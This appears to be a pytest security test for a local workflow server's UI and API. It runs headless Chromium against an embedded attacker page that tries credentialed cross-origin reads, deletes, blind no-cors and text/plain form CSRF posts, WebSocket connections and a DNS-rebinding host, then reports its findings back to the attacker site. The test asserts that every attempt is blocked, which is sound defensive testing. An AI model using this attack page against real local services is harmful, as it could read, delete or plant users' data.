"""A real browser: pages of other origins reach nothing of a store's server, and its own pages work.

The browser is signed in to the server all the while, so that it sends the key wherever it may.
"""

import json
import shutil
import signal
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any

import psutil
import pytest

from flows.prefect_home.key import lasting_key
from flows.prefect_home.runtime import prefect_home
from tests.flows.processes import ask_server, find_port

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine"),
]

REBOUND = "rebound.example"
"""A name of an attacker's, which resolves to this machine."""

ATTACK = """<!doctype html><title>attack</title><iframe name="away"></iframe><script>
const [target, run, key] = TARGETS, found = {};
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
async function attempt(name, path, options) {
  try {
    const said = await fetch(target + path, {credentials: "include", ...options});
    found[name] = said.type == "opaque" ? "sent" : "read: " + (await said.text()).slice(0, 200);
  } catch (error) { found[name] = "blocked"; }
}
function socket(name, path) {
  return new Promise((done) => {
    const opened = new WebSocket(target.replace("http", "ws") + path, "prefect");
    opened.onopen = () => { found[name] = "open"; done(); };
    opened.onerror = () => { found[name] = "blocked"; done(); };
  });
}
function form(type, body) {
  const it = document.createElement("form");
  Object.assign(it, {method: "POST", action: target + "/api/flows/", enctype: type, target: "away"});
  const [name, value] = body;
  it.innerHTML = "<input name='" + name + "' value='" + value + "'>";
  document.body.append(it);
  it.submit();
}
onload = async () => {
  if (key) { open(target + "/?key=" + key); await pause(4000); }
  const json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
  const plant = (name) => JSON.stringify({name: name});
  await attempt("read", "/api/admin/version", {});
  await attempt("read settings", "/ui-settings", {});
  await attempt("list", "/api/flow_runs/filter", {method: "POST", headers: json, body: "{}"});
  await attempt("list as text", "/api/flow_runs/filter", {method: "POST", headers: text, body: "{}"});
  await attempt("delete", "/api/flow_runs/" + run, {method: "DELETE"});
  await attempt("plant", "/api/flows/", {method: "POST", headers: json, body: plant("planted-1")});
  for (const headers of [text, {}]) {
    await attempt("blind", "/api/flows/", {method: "POST", mode: "no-cors", headers: headers,
      body: new Blob([plant("planted-2")])});
  }
  form("text/plain", ['{"name": "planted-3", "tags": ["', '"]}']);
  await socket("listen", "/api/events/out");
  await socket("speak", "/api/events/in");
  await socket("logs", "/api/logs/out");
  await pause(1000);
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
};
</script>"""


@dataclass
class Attacker:
    """A site that serves the attack and hears what it found."""

    page: str
    heard: Event = field(default_factory=Event)
    found: dict[str, str] = field(default_factory=dict)
    cookies: str = ""

    def handler(self) -> type[BaseHTTPRequestHandler]:
        attacker = self

        class Site(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.answer(attacker.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                attacker.found, attacker.cookies = json.loads(body), self.headers["Cookie"] or ""
                self.answer(b"")
                attacker.heard.set()

            def answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_args: Any) -> None:
                """Keep the test's output clean."""

        return Site


@pytest.fixture
def browse(tmp_path: Path) -> Iterator[Callable[..., "subprocess.Popen[str]"]]:
    """Open a page in a browser with nothing of any earlier page's."""
    opened: list[subprocess.Popen[str]] = []

    def open_page(address: str, *options: str) -> "subprocess.Popen[str]":
        words = [
            str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-popup-blocking",
            "--disable-background-networking", f"--user-data-dir={tmp_path / 'browser'}",
            f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1", *options, address,
        ]  # fmt: skip
        browser = subprocess.Popen(
            words, text=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
        )
        opened.append(browser)
        return browser

    yield open_page
    for browser in opened:
        browser.terminate()
        browser.communicate(timeout=300)


@pytest.fixture
def attacked(
    browse: Callable[..., "subprocess.Popen[str]"],
) -> Callable[[str, str, str, str], Attacker]:
    """Open the attack under a host name, on a port of its own; return what it found."""

    def attack(host: str, target: str, run: str, key: str) -> Attacker:
        attacker = Attacker(ATTACK.replace("TARGETS", json.dumps([target, run, key])))
        with ThreadingHTTPServer(("127.0.0.1", 0), attacker.handler()) as site:
            thread = Thread(target=site.serve_forever)
            thread.start()
            browser = browse(f"http://{host}:{site.server_port}/")
            heard = attacker.heard.wait(300)
            browser.terminate()
            site.shutdown()
            thread.join()
        assert heard, "the attack did not come to its end"
        return attacker

    return attack


@dataclass(frozen=True)
class Api:
    """A server's API, for whoever has the key."""

    address: str
    store: Path

    @property
    def key(self) -> str:
        return lasting_key(prefect_home(self.store))

    def ask(self, path: str, body: dict[str, Any]) -> Any:
        return ask_server(f"{self.address}/api{path}", self.store, body)

    def make_run(self) -> str:
        flow = self.ask("/flows/", {"name": "nightly"})["id"]
        run = {"flow_id": flow, "name": "the run to see", "state": {"type": "COMPLETED"}}
        return str(self.ask("/flow_runs/", run)["id"])

    def names(self, kind: str) -> set[str]:
        return {it["name"] for it in self.ask(f"/{kind}/filter", {})}


def assert_nothing_reached(attacker: Attacker) -> None:
    """Nothing could be read. What was sent blindly is looked for on the server."""
    blind = attacker.found.pop("blind")
    assert blind in {"sent", "blocked"}
    assert set(attacker.found.values()) == {"blocked"}, attacker.found
    assert len(attacker.found) == 9


@pytest.fixture(scope="module")
def ui(
    serve_ui: Callable[[Path, int], str],
    used: Callable[[Path], Path],
    tmp_path_factory: pytest.TempPathFactory,
) -> Api:
    """The UI of a store."""
    store = used(tmp_path_factory.mktemp("ui") / "store")
    return Api(serve_ui(store, find_port()), store)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", REBOUND])
def test_a_page_of_another_origin_reaches_nothing_of_the_ui(
    ui: Api,
    attacked: Callable[..., Attacker],
    browse: Callable[..., "subprocess.Popen[str]"],
    host: str,
) -> None:
    api, run = ui, ui.make_run()
    port = api.address.rpartition(":")[2]
    # Of this machine by the attacker's own name: what a rebound name makes of it.
    target = api.address.replace("127.0.0.1", host)
    attacker = attacked(host, target, run, api.key if host != REBOUND else "")
    # Cookies know no ports: the browser was signed in, and sent the key to the attacker, too.
    assert (f"nightfold-{port}=" in attacker.cookies) == (host != REBOUND)
    assert_nothing_reached(attacker)
    assert api.names("flow_runs") == {"the run to see"}
    assert api.names("flows") == {"nightly"}

    budget = "--virtual-time-budget=30000"
    shown, _ = browse(f"{target}/v2/runs?key={api.key}", "--dump-dom", budget).communicate()
    assert ("the run to see" in shown) == (host != REBOUND)
    assert ("Invalid host header" in shown) == (host == REBOUND)


def test_a_page_of_another_origin_reaches_nothing_of_serve(
    service: Any, attacked: Callable[..., Attacker]
) -> None:
    api = Api(service.api.removesuffix("/api"), service.store)
    run = api.make_run()
    assert_nothing_reached(attacked("127.0.0.1", api.address, run, api.key))
    assert "the run to see" in api.names("flow_runs")
    assert api.names("flows") == {"nightly"}


def test_a_page_of_another_origin_reaches_nothing_of_a_run(
    start: Callable[[Path], Any],
    used: Callable[[Path], Path],
    attacked: Callable[..., Attacker],
    tmp_path: Path,
) -> None:
    started = start(used(tmp_path / "store"))
    process = psutil.Process(started.process.pid)
    while "ingest: started" not in started.log.read_text(encoding="utf-8"):
        assert started.process.poll() is None
    (server,) = [
        it for it in process.children() if "flows.prefect_home.server_process" in it.cmdline()
    ]
    address = server.environ()["PREFECT_SERVER_CORS_ALLOWED_ORIGINS"]
    # The run waits, so that its server is there until the end of the attack.
    process.suspend()
    try:
        assert_nothing_reached(attacked("127.0.0.1", address, "0", ""))
        with pytest.raises(urllib.error.HTTPError, match="401"):
            urllib.request.urlopen(f"{address}/api/health", timeout=300)
    finally:
        process.resume()
    started.process.send_signal(signal.SIGTERM)
    assert started.process.wait(timeout=300) == 128 + signal.SIGTERM
